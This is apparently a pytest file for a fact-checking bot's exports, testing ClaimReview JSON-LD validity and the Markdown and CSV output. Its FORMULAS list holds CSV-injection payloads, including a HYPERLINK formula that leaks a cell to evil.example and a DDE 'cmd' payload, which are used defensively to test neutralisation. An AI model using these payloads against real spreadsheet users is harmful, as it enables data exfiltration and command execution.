"""Exports: ClaimReview JSON-LD checked against schema.org's properties, Markdown and CSV."""

from __future__ import annotations

import csv
import io
import json

from bot.desk.api import Actor, Place
from bot.desk.service import Desk
from bot.desk.verdicts import DEFAULT_SCALE
from bot.models import TriageReport

# Properties schema.org defines (https://schema.org/ClaimReview, /Rating, /Claim, /CreativeWork, /Thing),
# limited to the ones an export could sensibly use; anything else in the output is a typo or an invention.
THING = {
    "@type",
    "additionalType",
    "alternateName",
    "description",
    "identifier",
    "image",
    "name",
    "sameAs",
    "url",
}
CREATIVE_WORK = THING | {
    "about", "author", "creator", "dateCreated", "dateModified", "datePublished", "headline", "inLanguage",
    "publisher", "text", "citation", "isBasedOn",
}  # fmt: skip
REVIEW = CREATIVE_WORK | {
    "itemReviewed",
    "reviewAspect",
    "reviewBody",
    "reviewRating",
    "associatedClaimReview",
}
CLAIM_REVIEW = REVIEW | {"@context", "claimReviewed"}
RATING = THING | {"author", "bestRating", "ratingExplanation", "ratingValue", "reviewAspect", "worstRating"}
CLAIM = CREATIVE_WORK | {"appearance", "claimInterpreter", "firstAppearance"}
ORGANISATION = THING | {"address", "email", "logo"}
PERSON = THING | {"affiliation", "familyName", "givenName", "jobTitle"}


def _check_claim_review(review: dict) -> None:
    assert review["@context"] == "https://schema.org" and review["@type"] == "ClaimReview"
    assert set(review) <= CLAIM_REVIEW, set(review) - CLAIM_REVIEW
    for required in ("claimReviewed", "itemReviewed", "reviewRating", "author", "datePublished", "url"):
        assert review[required], required
    item, rating, author = review["itemReviewed"], review["reviewRating"], review["author"]
    assert item["@type"] == "Claim" and set(item) <= CLAIM, set(item) - CLAIM
    assert item["appearance"]["@type"] == "CreativeWork" and set(item["appearance"]) <= CREATIVE_WORK
    if "author" in item:
        allowed = PERSON if item["author"]["@type"] == "Person" else ORGANISATION
        assert set(item["author"]) <= allowed
    assert rating["@type"] == "Rating" and set(rating) <= RATING, set(rating) - RATING
    assert rating["alternateName"] and rating["ratingExplanation"]
    if "ratingValue" in rating:
        assert rating["worstRating"] <= rating["ratingValue"] <= rating["bestRating"]
    assert author["@type"] == "Organization" and set(author) <= ORGANISATION
    assert len(review["datePublished"]) == 10  # ISO date


def _finish(desk: Desk, stored: TriageReport, editor: Actor, place: Place) -> tuple[str, str]:
    first, second = stored.claims[0].id, stored.claims[2].id
    desk.run(f'verdict {first} false "The council minutes (p. 4) give $3.9bn."', editor, place)
    desk.run(f'verdict {second} unverifiable "No schedule has been published."', editor, place)
    return first, second


def test_claimreview_for_a_thread_is_valid_schema_org(
    desk: Desk, stored: TriageReport, editor: Actor, place: Place
) -> None:
    first, second = _finish(desk, stored, editor, place)
    reply = desk.run(f"export {stored.thread_ref} claimreview", editor, place)
    reviews = json.loads(reply.text)
    assert reviews == reply.data["document"]
    assert [r["url"] for r in reviews] == [
        f"https://gazette.example/fact-checks/{first}",
        f"https://gazette.example/fact-checks/{second}",
    ]
    for review in reviews:
        _check_claim_review(review)
    false, unverifiable = reviews
    assert false["claimReviewed"] == stored.claims[0].text
    assert false["reviewRating"] == {
        "@type": "Rating",
        "alternateName": "False",
        "ratingValue": 1,
        "bestRating": 5,
        "worstRating": 1,
        "ratingExplanation": "The council minutes (p. 4) give $3.9bn.",
    }
    assert false["itemReviewed"]["appearance"]["url"] == "https://harbour.example/news/budget"
    assert false["author"] == {
        "@type": "Organization",
        "name": "Harbour Gazette",
        "url": "https://gazette.example",
    }
    assert "ratingValue" not in unverifiable["reviewRating"]  # no number for "cannot tell"
    assert unverifiable["itemReviewed"]["author"] == {"@type": "Person", "name": "Ada Mbeki"}


def test_claimreview_of_one_claim_needs_a_verdict(
    desk: Desk, stored: TriageReport, editor: Actor, place: Place
) -> None:
    ref = stored.claims[1].id
    refused = desk.run(f"export {ref}", editor, place)
    assert refused.error and "has no verdict yet" in refused.title
    desk.run(f'verdict {ref} mostly_true "ONS series, 2025"', editor, place)
    single = json.loads(desk.run(f"export {ref}", editor, place).text)
    _check_claim_review(single)
    assert single["reviewRating"]["ratingValue"] == DEFAULT_SCALE.get("mostly_true").rating_value


def test_thread_without_verdicts_says_so(
    desk: Desk, stored: TriageReport, editor: Actor, place: Place
) -> None:
    reply = desk.run(f"export {stored.thread_ref}", editor, place)
    assert reply.data["document"] == [] and "No claim of" in reply.text


def test_markdown_lists_the_finished_claims_only(
    desk: Desk, stored: TriageReport, editor: Actor, place: Place
) -> None:
    first, _ = _finish(desk, stored, editor, place)
    open_one = stored.claims[1].id
    desk.run(f'note {first} "minutes checked twice"', editor, place)
    text = desk.run(f"export {stored.thread_ref} md", editor, place).text
    assert text.startswith("# Fact-check: Harbour Council passes budget")
    assert (
        f"## {first} — False" in text
        and "- Verdict: **False** — The council minutes (p. 4) give $3.9bn." in text
    )
    assert "- Note from @maria: minutes checked twice" in text
    assert open_one not in text and stored.claims[1].text not in text  # still open: not in the export
    assert f"> {stored.claims[0].text}" in text and f"> {stored.claims[2].text}" in text


def test_csv_round_trips_through_a_spreadsheet_reader(
    desk: Desk, stored: TriageReport, editor: Actor, place: Place
) -> None:
    first, second = _finish(desk, stored, editor, place)
    desk.run(f'dismiss {stored.claims[1].id} "opinion"', editor, place)
    rows = list(csv.DictReader(io.StringIO(desk.run(f"export {stored.thread_ref} csv", editor, place).text)))
    assert [r["ref"] for r in rows] == [c.id for c in stored.claims]
    by_ref = {r["ref"]: r for r in rows}
    assert (by_ref[first]["verdict"], by_ref[first]["rating_value"]) == ("false", "1")
    assert (by_ref[second]["verdict"], by_ref[second]["rating_value"]) == ("unverifiable", "")
    assert (
        by_ref[stored.claims[1].id]["status"] == "dismissed" and by_ref[stored.claims[1].id]["verdict"] == ""
    )
    assert by_ref[first]["claim"] == stored.claims[0].text


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def test_csv_cells_from_article_text_cannot_run_as_formulas(
    desk: Desk, stored: TriageReport, editor: Actor, place: Place, session_factory
) -> None:
    """OWASP CSV injection: every cell quoted, and a cell starting like a formula gets a leading apostrophe."""
    from storage import audit
    from storage.claims import get_claim
    from storage.threads import get_thread

    ref = int(stored.claims[0].id.removeprefix("C-"))
    with session_factory() as session, session.begin():
        claim = get_claim(session, ref)
        claim.text, claim.speaker = FORMULAS[0], FORMULAS[1]
        get_thread(session, claim.thread_id).title = FORMULAS[2]
        audit.record(session, actor="test", action="test.hostile_text", claim=claim)
    desk.run(f"verdict {stored.claims[0].id} false {FORMULAS[3]}", editor, place)
    text = desk.run(f"export {stored.thread_ref} csv", editor, place).text
    rows = list(csv.DictReader(io.StringIO(text)))
    first = next(r for r in rows if r["ref"] == stored.claims[0].id)
    assert first["claim"] == "'" + FORMULAS[0]
    assert first["speaker"] == "'" + FORMULAS[1]
    assert first["article_title"] == "'" + FORMULAS[2]
    assert first["explanation"] == "'" + FORMULAS[3]
    assert all(line.startswith('"') for line in text.splitlines())  # every cell quoted
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))


def test_the_csv_neutraliser_covers_every_owasp_trigger() -> None:
    from bot.desk.export import _inert

    for formula in FORMULAS:
        assert _inert(formula) == "'" + formula
    assert _inert("Council approved 4.2bn") == "Council approved 4.2bn"
    assert _inert("") == ""


def test_markdown_and_csv_of_open_claims_say_there_is_nothing_finished(
    desk: Desk, stored: TriageReport, editor: Actor, place: Place
) -> None:
    for fmt in ("markdown", "csv"):
        whole = desk.run(f"export {stored.thread_ref} {fmt}", editor, place)
        assert whole.error and f"No claim of {stored.thread_ref} is finished yet" in whole.title
        one = desk.run(f"export {stored.claims[0].id} {fmt}", editor, place)
        assert one.error and f"{stored.claims[0].id} is still open" in one.title
    desk.run(f'verdict {stored.claims[0].id} false "minutes"', editor, place)
    rows = list(csv.DictReader(io.StringIO(desk.run(f"export {stored.thread_ref} csv", editor, place).text)))
    assert [r["ref"] for r in rows] == [stored.claims[0].id]
